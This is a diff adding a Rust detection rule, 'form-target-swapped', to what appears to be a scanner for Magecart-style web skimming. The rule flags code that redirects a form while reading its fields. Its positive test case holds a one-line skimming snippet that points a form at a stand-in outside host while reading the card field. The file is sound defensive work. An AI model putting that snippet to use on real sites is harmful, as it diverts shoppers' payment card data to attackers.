@@ -1,0 +1,18 @@
+//! `form-target-swapped`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "form-target-swapped",
+    description: "The target of a form is changed while its data is read.",
+    severity: Severity::Medium,
+    classes: ClassSet::MAGECART,
+    needs: &[one(&[Atom::FormTarget]), one(&[Atom::FieldValue, Atom::FormContents, Atom::CardField])],
+    within: 80,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &["f.action='//c.example/p';v=f.elements.card.value"],
+        without: &["f.action='/search'"],
+    },
+};
